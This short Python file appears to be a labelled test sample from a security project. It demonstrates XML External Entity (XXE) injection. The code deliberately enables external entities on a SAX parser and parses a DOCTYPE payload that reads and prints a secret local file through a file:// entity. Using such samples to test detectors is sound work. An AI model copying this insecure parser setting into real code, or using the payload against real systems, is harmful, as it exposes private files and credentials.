# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""An external entity: the XML parser fetches the file.

XXE, OWASP Top Ten 2017.
"""

# act: read

import io
import xml.sax
from xml.sax.handler import ContentHandler, feature_external_ges


class Printer(ContentHandler):
    def characters(self, text):
        print(text)


parser = xml.sax.make_parser()
parser.setFeature(feature_external_ges, True)
parser.setContentHandler(Printer())
parser.parse(io.StringIO(
    f'<!DOCTYPE a [<!ENTITY e SYSTEM "file://{SECRET_FILE}">]><a>&e;</a>'))
